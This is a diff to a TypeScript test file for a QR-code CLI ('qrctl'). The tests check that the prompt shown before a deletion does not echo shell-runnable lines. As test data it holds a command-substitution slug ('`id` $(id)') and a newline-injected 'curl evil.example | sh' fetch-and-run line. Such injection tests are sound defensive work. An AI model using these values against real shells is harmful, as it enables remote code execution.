@@ -103,12 +103,16 @@ test('the question before a code is deleted proposes no line that a shell would 
   const said: string[] = [];
   const console = { note: (line: string) => said.push(line), ask: async () => '' };
   const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
-  const context = { console, settings: async () => ({ concurrency: 4 }), service: async () => service } as unknown as Context;
+  const context = {
+    console,
+    settings: async () => ({ concurrency: 4, profile: 'work', keySource: 'profile' }),
+    service: async () => service,
+  } as unknown as Context;
   const ask = (slug: string) =>
     confirm(context, [{ ...CODE, slug }], { yes: undefined, dryRun: undefined }).catch(() => undefined);
   await ask('`id` $(id)');
   await ask('aB3xY');
-  expect(said.map((line) => /qrctl qr update .*/.exec(line)?.[0])).toEqual([
+  expect(said.map((line) => /qrctl qr update [^`]*/.exec(line)?.[0])).toEqual([
     `qrctl qr update ${CODE.id} --status paused`,
     'qrctl qr update aB3xY --status paused',
   ]);
@@ -190,7 +194,11 @@ test.each([1, 2])('the question before %i codes are deleted has their names in q
   const note = (line: string) => said.push(line);
   const console = { note, ask: async (line: string) => String(note(line)) };
   const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
-  const context = { console, settings: async () => ({ concurrency: 4 }), service: async () => service } as unknown as Context;
+  const context = {
+    console,
+    settings: async () => ({ concurrency: 4, profile: 'work', keySource: 'profile' }),
+    service: async () => service,
+  } as unknown as Context;
   const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
   await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
   const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
